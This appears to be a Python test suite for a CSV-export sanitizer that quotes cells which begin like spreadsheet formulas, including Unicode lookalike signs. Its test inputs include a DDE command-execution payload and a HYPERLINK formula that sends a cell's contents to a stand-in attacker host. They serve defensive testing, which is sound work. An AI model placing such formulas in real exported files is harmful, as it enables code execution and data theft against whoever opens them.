"""Cells that a spreadsheet opens: text stays text, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from enum import StrEnum
from typing import Any
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core.tables import safe_cell

SIGNS = "=+-@\t\r\n＝＋－＠﹦﹢﹣﹫−"


class Kind(StrEnum):
    """An enumeration of features."""

    NEED = "need"
    TRAP = "=trap"


@pytest.mark.parametrize("sign", [*SIGNS, "\0"])
@pytest.mark.parametrize("before", ["", " ", "\u00a0", "\u202f ", "\ufeff", "\u200b", "\x01"])
def test_a_text_that_begins_like_a_formula_is_marked_as_text(sign: str, before: str) -> None:
    assert safe_cell(before + sign + "HYPERLINK(1)").startswith("'")


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?x="&A1,"ok")',
        "+33 1 23 45 67 89",
        "-2+3",
        "@SUM(1+1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "- une liste",
    ],
)
def test_known_formulas_are_marked(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "mot", "a=b", "1+1", "« = »", "'=1", "a\n=b", "(=1)", "é", "#", "5 %"])
def test_other_texts_are_left_alone(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "oui"),
        (False, "non"),
        (-5, "-5"),
        (-1.5, "-1.5"),
        (Decimal("-3.20"), "-3.20"),
        (date(2020, 9, 7), "2020-09-07"),
        (datetime(2020, 3, 20, 9, 30, tzinfo=UTC), "2020-03-20T09:30:00+00:00"),
        (UUID(int=1), "00000000-0000-0000-0000-000000000001"),
        (Kind.NEED, "need"),
        (Kind.TRAP, "'=trap"),
        ("-5", "'-5"),
        ("a\0b", "ab"),
        ("\0=1", "'=1"),
    ],
)
def test_values_of_other_types(value: Any, cell: str) -> None:
    assert safe_cell(value) == cell


@given(st.text())
def test_no_cell_begins_like_a_formula_and_the_words_stay(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.lstrip().startswith(tuple(SIGNS))
    assert cell.removeprefix("'") == text.replace("\0", "").removeprefix("'")


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=5))
def test_rows_are_read_back_by_another_reader(row: list[str]) -> None:
    file = io.StringIO()
    csv.writer(file).writerow([safe_cell(value) for value in row])
    (read,) = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert read == [safe_cell(value) for value in row]
